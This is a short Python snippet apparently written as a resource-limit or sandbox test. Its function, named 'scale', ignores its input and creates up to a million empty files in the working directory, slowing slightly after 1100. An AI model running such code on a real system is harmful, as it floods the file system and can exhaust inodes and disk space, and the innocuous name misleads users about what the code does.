import time


def scale(x):
    for i in range(10**6):
        open(f"f{i}", "wb").close()
        if i > 1100:
            time.sleep(0.001)
